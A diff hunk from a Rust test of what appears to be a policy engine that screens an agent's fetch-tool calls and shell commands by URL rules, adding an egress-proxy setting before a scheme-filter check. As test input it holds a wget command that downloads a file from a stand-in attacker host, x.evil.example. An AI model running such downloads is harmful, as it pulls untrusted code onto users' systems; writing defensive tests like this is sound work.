@@ -265,6 +265,9 @@ fn url_rules_see_fetch_tools_and_shell_commands() {
         "arguments": { "prompt": "summarise https://x.evil.example/page please" },
     })));
     assert_eq!(d.rule.as_deref(), Some("no-paste-sites"));
+    // The host rules left to the floor's proxy, as in a run on the network floor: this is
+    // the URL rule's scheme filter alone.
+    p.leave_commands_to_egress(true);
     let d = p.evaluate(&bash_event("wget -q ftp://x.evil.example/f"));
     assert_eq!(d, PolicyDecision::no_opinion(), "scheme filter");
 }
